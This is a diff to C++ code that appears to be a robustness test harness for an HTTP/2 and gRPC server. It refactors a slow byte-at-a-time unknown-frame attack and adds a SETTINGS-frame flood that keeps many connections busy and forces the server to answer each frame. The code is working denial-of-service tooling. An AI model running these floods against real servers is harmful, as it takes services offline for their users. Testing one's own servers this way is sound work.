@@ -2,7 +2,9 @@
 #include <sys/socket.h>
 #include <unistd.h>
 
+#include <algorithm>
 #include <array>
+#include <cerrno>
 #include <stdexcept>
 #include <string>
 #include <thread>
@@ -53,24 +55,23 @@ void http_connections(Attacker& attacker) {
   connect_again_and_again(attacker, attacker.http, "GET /healthz HTTP/1.1\r\nHost: here\r\n\r\n");
 }
 
-/// A frame of a type that nobody knows (RFC 9113, 5.5: ignored), a byte at a time, on as many
-/// connections as there may be.
-void grpc_bytes(Attacker& attacker) {
+/// Frames that are no call, again and again, in pieces of a size, on as many connections as there
+/// may be.
+void send_frames(Attacker& attacker, const std::string& frames, std::size_t piece) {
   constexpr int kThreads = 8, kEach = 24;
-  const std::string frame = "\0\x20\0\x42\0\0\0\0\0"s + std::string(8192, 'x');
   for (int i = 0; i < kThreads; ++i) {
-    std::thread([&attacker, frame] {
+    std::thread([&attacker, frames, piece] {
       struct Connection {
         int socket = -1;
-        std::size_t byte = 0;
+        std::size_t next = 0;
       };
       std::array<Connection, kEach> connections;
       for (;;) {
-        for (auto& [socket, byte] : connections) {
+        for (auto& [socket, next] : connections) {
           try {
             if (socket < 0) {
               socket = connect_socket(attacker.source, attacker.server);
-              byte = 0;
+              next = 0;
               ::send(socket, kPreface.data(), kPreface.size(), MSG_NOSIGNAL);
             }
           } catch (const std::runtime_error&) {
@@ -78,15 +79,30 @@ void grpc_bytes(Attacker& attacker) {
           }
           std::array<char, 4096> answer;
           while (::recv(socket, answer.data(), answer.size(), MSG_DONTWAIT) > 0) continue;
-          if (::send(socket, &frame[byte++ % frame.size()], 1, MSG_NOSIGNAL) == 1) {
+          const auto sent = ::send(socket, &frames[next], std::min(piece, frames.size() - next),
+                                   MSG_NOSIGNAL | MSG_DONTWAIT);
+          if (sent > 0) {
+            next = (next + static_cast<std::size_t>(sent)) % frames.size();
             ++attacker.done;
-          } else {
+          } else if (errno != EAGAIN) {
             ::close(std::exchange(socket, -1));
           }
         }
       }
     }).detach();
   }
+}
+
+/// A frame of a type that nobody knows (RFC 9113, 5.5: ignored), a byte at a time.
+void grpc_bytes(Attacker& attacker) {
+  send_frames(attacker, "\0\x20\0\x42\0\0\0\0\0"s + std::string(8192, 'x'), 1);
+}
+
+/// Settings that say nothing, of which each has an answer, as many as there is room for.
+void grpc_frames(Attacker& attacker) {
+  std::string frames;
+  for (int i = 0; i < 1'000; ++i) frames += "\0\0\0\4\0\0\0\0\0"s;
+  send_frames(attacker, frames, frames.size());
 }
 
 }  // namespace
@@ -96,6 +112,7 @@ std::vector<Attack> connection_attacks() {
       {"grpc_connections", grpc_connections, "connections"},
       {"http_connections", http_connections, "connections"},
       {"grpc_bytes", grpc_bytes, "bytes"},
+      {"grpc_frames", grpc_frames, "pieces"},
   };
 }
 
